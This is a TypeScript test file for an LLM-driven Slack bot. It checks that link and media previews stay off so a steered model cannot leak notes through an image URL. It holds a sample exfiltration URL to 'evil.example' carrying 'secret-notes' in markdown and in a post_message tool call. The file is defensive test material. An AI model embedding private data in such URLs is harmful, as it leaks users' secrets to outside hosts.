import { afterEach, describe, expect, it } from 'vitest';
import { reply } from '../../support/fake-openai.js';
import type { SlackCall } from '../../support/fake-slack.js';
import { type Harness, startHarness } from '../harness.js';
import { startPolicyHarness } from '../policy-support.js';

/** What a steered model would post: the notes, carried out in an image URL Slack would fetch. */
const EXFIL = 'https://evil.example/pixel.png?d=secret-notes';

const previewsOff = (call: SlackCall) =>
  String(call.params.unfurl_links) === 'false' && String(call.params.unfurl_media) === 'false';

describe('link previews never carry data out', () => {
  let h: Harness;
  afterEach(async () => {
    await h.close();
  });

  /** The model asks post_message to post a link to C0002; its card (previews off) is approved. */
  const approvedPostMessage = async (harness: Harness) => {
    harness.model.enqueue(
      reply.toolCalls([{ name: 'post_message', arguments: { channel: 'C0002', text: `see ${EXFIL}` } }]),
      reply.text('Posted.'),
    );
    await harness.mention('post it');
    const [card] = await harness.waitForCards(1);
    if (!card) throw new Error('no card');
    expect(previewsOff(card)).toBe(true);
    await harness.click(card, 'approve', 'UADMIN');
    return harness.slack.waitForCall('chat.postMessage', (c) => c.params.channel === 'C0002');
  };

  it('answers, cards, notices and post_message are posted with previews off; a streamed answer stops streaming at a link', async () => {
    h = await startHarness({ env: { ADMIN_USER_IDS: 'UADMIN' } });
    h.model.enqueue(
      reply.text(`Here is a summary of what I found so far. ![status](${EXFIL}) and that is all of it.`),
    );
    await h.mention('summarise the notes');
    await h.waitForText((text) => text.includes('evil.example'));
    // Nothing with the link went through the stream, which takes no unfurl flags.
    for (const call of [...h.slack.callsTo('chat.startStream'), ...h.slack.callsTo('chat.appendStream')])
      expect(JSON.stringify(call.params)).not.toContain('evil.example');
    const answer = h.slack.callsTo('chat.postMessage').find((c) => JSON.stringify(c.params).includes('evil'));
    expect(answer && previewsOff(answer)).toBe(true);

    // A card (model-written arguments), post_message itself, and the notice after it.
    const posted = await approvedPostMessage(h);
    expect(previewsOff(posted)).toBe(true);
    await h.waitForText((text) => text === 'Posted.');
    // Every message the bot posted with text from the model or users turned previews off.
    for (const call of h.slack.callsTo('chat.postMessage')) expect(previewsOff(call)).toBe(true);
  });

  it('post_message shows previews only when the policy opts in with postMessageLinkPreviews', async () => {
    h = await startPolicyHarness({ postMessageLinkPreviews: true });
    const posted = await approvedPostMessage(h);
    expect(posted.params.unfurl_links).toBeUndefined();
    expect(posted.params.unfurl_media).toBeUndefined();
  });
});
